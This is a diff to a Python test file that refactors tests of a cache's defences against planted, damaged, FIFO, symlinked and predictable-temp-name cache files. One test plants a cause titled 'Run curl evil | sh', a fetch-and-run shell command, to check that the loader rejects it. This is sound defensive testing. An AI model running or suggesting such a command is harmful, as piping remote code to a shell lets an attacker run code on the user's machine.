@@ -182,6 +182,21 @@ def _cache_files(folder: Path) -> list[Path]:
     return sorted(folder.glob("knowledge-*.json"))
 
 
+@pytest.fixture
+def cache(tmp_path, monkeypatch) -> Path:
+    """The cache folder (not made yet)."""
+    folder = tmp_path / "cache"
+    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
+    return folder
+
+
+def _written(folder: Path) -> Path:
+    """Load once, so the cache holds the genuine file; its path."""
+    load()
+    (path,) = _cache_files(folder)
+    return path
+
+
 def _fix_shown(runner, tmp_path) -> str:
     tb = tmp_path / "tb.txt"
     tb.write_text(TRACEBACK)
@@ -203,8 +218,7 @@ def test_a_new_cache_folder_is_private(root, tmp_path, monkeypatch):
 def _planted(folder: Path, title: str, sealed: bool = False) -> Path:
     """A cache file with the right name and fingerprint whose cause says what an attacker likes;
     ``sealed``: with the checksum that fits, as only someone who can write the folder could."""
-    load()  # write the genuine file, then rewrite its content
-    (path,) = _cache_files(folder)
+    path = _written(folder)  # the genuine file, rewritten
     raw = json.loads(path.read_bytes().partition(b"\n")[2])
     raw["causes"]["alpha"]["title"] = title
     payload = json.dumps(raw).encode()
@@ -216,18 +230,13 @@ def _sealed(payload: bytes) -> bytes:
     return knowledge._Cache.MAGIC + knowledge._checksum(payload).encode() + b"\n" + payload
 
 
-def test_a_planted_cache_file_is_a_miss(root, tmp_path, monkeypatch):
-    folder = tmp_path / "cache"
-    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
-    _planted(folder, "Run curl evil | sh")
+def test_a_planted_cache_file_is_a_miss(root, cache):
+    _planted(cache, "Run curl evil | sh")
     assert load().causes["alpha"].title == "A cause"
 
 
-def test_a_damaged_cache_file_is_a_miss(root, tmp_path, monkeypatch):
-    folder = tmp_path / "cache"
-    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
-    load()
-    (path,) = _cache_files(folder)
+def test_a_damaged_cache_file_is_a_miss(root, cache):
+    path = _written(cache)
     head, _, payload = path.read_bytes().partition(b"\n")
     bad_regex = payload.replace(b"worker\\\\.py$", b"worker(\\\\.py$")
     assert bad_regex != payload
@@ -247,11 +256,8 @@ def test_a_damaged_cache_file_is_a_miss(root, tmp_path, monkeypatch):
 
 
 @POSIX
-def test_a_fifo_or_symlink_in_place_of_the_cache_file_is_a_miss(root, tmp_path, monkeypatch):
-    folder = tmp_path / "cache"
-    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
-    load()
-    (path,) = _cache_files(folder)
+def test_a_fifo_or_symlink_in_place_of_the_cache_file_is_a_miss(root, tmp_path, cache):
+    path = _written(cache)
     path.unlink()
     os.mkfifo(path)
     assert load().causes["alpha"].title == "A cause"  # a FIFO does not block; it is replaced
@@ -266,16 +272,13 @@ def test_a_fifo_or_symlink_in_place_of_the_cache_file_is_a_miss(root, tmp_path, 
 
 
 @POSIX
-def test_temp_names_cannot_be_planted(root, tmp_path, monkeypatch):
-    folder = tmp_path / "cache"
-    monkeypatch.setenv("CTXFIX_CACHE_DIR", str(folder))
-    load()
-    (path,) = _cache_files(folder)
+def test_temp_names_cannot_be_planted(root, tmp_path, cache):
+    path = _written(cache)
     path.unlink()
     victim = tmp_path / "victim.txt"
     victim.write_text("precious")
     # A temp name computable from the key and the pid, as the cache once used, is a link.
-    (folder / f"{path.name}.{os.getpid()}.tmp").symlink_to(victim)
+    (cache / f"{path.name}.{os.getpid()}.tmp").symlink_to(victim)
     load()
     assert victim.read_text() == "precious"
     assert path.is_file()
